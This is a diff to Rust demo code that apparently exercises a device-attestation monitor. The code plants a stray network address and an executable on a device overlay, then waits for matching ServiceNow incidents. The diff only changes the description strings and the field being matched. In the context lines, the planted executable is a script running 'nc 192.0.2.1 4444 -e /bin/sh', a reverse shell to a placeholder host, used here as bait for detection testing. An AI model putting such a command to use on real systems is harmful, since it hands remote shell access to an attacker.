@@ -63,7 +63,7 @@ async fn address(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoError> 
         return Ok(());
     }
     overlay::set_address(site, device, STRAY_ADDRESS)?;
-    let incident = reported(story, device, "address").await?;
+    let incident = reported(story, device, "Network address").await?;
     let group = incident.text("assignment_group").parse().during("read a group's key")?;
     let group = story.row("sys_user_group", &group).await?;
     let group = group.map(|group| group.text("name").to_owned()).unwrap_or_default();
@@ -88,7 +88,7 @@ async fn executable(story: &Story<'_>, device: &DeviceId) -> Result<(), DemoErro
         fs::write(&path, "#!/bin/sh\nexec nc 192.0.2.1 4444 -e /bin/sh\n").during("write an executable")?;
         fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).during("write an executable")?;
     }
-    let incident = reported(story, device, "executable").await?;
+    let incident = reported(story, device, "Executable in the overlay").await?;
     narrator.say(format_args!(
         "executable      {} (P{}): {}",
         incident.text("number"),
@@ -161,14 +161,14 @@ async fn emergency(
         .await
 }
 
-/// Reports until ServiceNow has an open incident of the device whose description has the word.
+/// Reports until ServiceNow has an open incident of the device whose short description has the words.
 async fn reported(story: &Story<'_>, device: &DeviceId, word: &str) -> Result<Row, DemoError> {
     story
         .narrator
         .wait_for("the incident about the overlay", || async {
             story.attest(device).await?;
             let rows = story.find("incident", "u_device", device.as_str()).await?;
-            Ok(rows.into_iter().find(|row| row.text("description").contains(word)))
+            Ok(rows.into_iter().find(|row| row.text("short_description").contains(word)))
         })
         .await
 }
